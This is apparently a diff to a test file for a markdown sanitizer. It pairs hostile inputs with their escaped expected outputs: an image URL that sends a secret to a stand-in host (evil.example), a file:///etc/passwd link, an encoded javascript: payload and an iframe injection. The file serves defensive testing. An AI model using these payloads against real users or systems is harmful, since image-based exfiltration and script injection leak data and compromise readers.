@@ -42,6 +42,8 @@ test.each([
   ['![](http://evil.example/?q=SECRET)', '[image](http://evil.example/?q=SECRET)'],
   ['!![alt](http://evil.example/x.png)', '! [alt](http://evil.example/x.png)'],
   ['![a][ref]\n\n[ref]: http://evil.example/x.png', '[a][ref]\n\n[ref]\\: http://evil.example/x.png'],
+  ['[![]]', '[ [image]]'],
+  ['www.a.example\\<iframe src=x>', 'www.a.example&lt;iframe src=x>'],
   ['[x](obsidian://open?vault=v)', '[x]\\(obsidian\\://open?vault=v)'],
   ['[x](file:///etc/passwd)', '[x]\\(file\\:///etc/passwd)'],
   ['[x](java&#115;cript:alert(1))', '[x]\\(java&#115;cript:alert(1))'],
